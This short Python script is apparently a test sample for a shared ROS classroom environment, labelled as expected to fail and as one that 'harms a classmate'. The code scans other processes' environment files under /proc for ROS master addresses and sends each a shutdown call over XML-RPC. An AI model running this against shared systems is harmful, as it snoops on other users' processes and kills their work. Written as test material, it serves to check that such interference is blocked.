#!/usr/bin/env python3
# expected: failed
# exercise: stop_at_x
# kind: harms a classmate
# at none: open
"""Looks through /proc for the masters of others, and shuts them down."""
import glob
import os
import re
import xmlrpc.client

for path in glob.glob('/proc/[0-9]*/environ'):
    try:
        with open(path, 'rb') as file:
            found = re.search(rb'ROS_MASTER_URI=(\S+?)\0', file.read())
    except OSError:
        continue
    if found and found[1].decode() != os.environ['ROS_MASTER_URI']:
        try:
            xmlrpc.client.ServerProxy(found[1].decode()).shutdown('/x', 'bye')
            print('ended the master of a classmate', flush=True)
        except Exception as error:
            print(error)
